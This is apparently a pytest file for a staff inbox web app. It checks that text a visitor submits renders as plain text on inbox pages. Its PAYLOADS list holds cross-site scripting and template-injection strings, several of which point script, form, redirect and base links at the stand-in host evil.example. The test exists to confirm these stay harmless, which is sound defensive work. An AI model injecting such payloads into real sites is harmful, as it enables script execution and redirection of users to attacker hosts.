"""What a visitor writes is text on every page of the inbox."""

from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from nightdesk.store.tables import Consent, Message, Request
from tests.staff.conftest import Desk
from tests.staff.examples import MORNING, add_alert, add_request

PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=csrf><button>x",
    "</blockquote></section><h1>x</h1><script src=//evil.example></script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
]


class Tags(HTMLParser):
    """Every tag with its attributes, and all the text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs) -> None:
        self.found.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """The page's tags and the names of their attributes: what text must never change."""
    return [(tag, tuple(name for name, _ in attrs)) for tag, attrs in Tags(page).found]


def addresses(page: str) -> list[str]:
    found = Tags(page).found
    return [v or "" for _, attrs in found for name, v in attrs if name in ("href", "src", "action")]


@pytest.fixture
def visit(core) -> None:
    """A request with every part that can hold a visitor's words."""
    with core.db.writing() as session:
        said = [(author, "plain") for author in ("visitor", "assistant", "staff", "system")]
        request = add_request(session, "text", channel="email", said=said)
        request.consents.append(
            Consent(purpose="contact", granted=True, version="1", wording="plain", at=MORNING)
        )
        add_alert(session, request, "911", MORNING, "plain")
        session.commit()


def write(core, text: str) -> None:
    """Put `text` wherever a visitor's words can end up."""
    with core.db.writing() as session:
        request = session.get_one(Request, "req_text")
        request.name = request.email = request.words = text
        request.concerns = request.areas = request.treatments = [text]
        request.times = {"words": text, "normalised": text}
        request.flags = [{"name": text, "words": text}]
        request.consents[0].wording = text
        for message in session.scalars(select(Message).where(Message.conversation_id == "c-text")):
            message.text = text
        session.commit()


@pytest.mark.usefixtures("visit")
def test_words_stay_words(core, ana: Desk) -> None:
    paths = ["/staff", "/staff/requests/req_text"]
    write(core, "plain")
    before = [ana.get(path).text for path in paths]
    for text in PAYLOADS:
        write(core, text)
        after = [ana.get(path).text for path in paths]
        assert [shape(page) for page in after] == [shape(page) for page in before], text
        for address in addresses("".join(after)):
            assert address.startswith(("/staff", "#", "tel:+", "sms:+", "mailto:")), text
        assert all(text in Tags(page).text for page in after), "nothing is lost either"
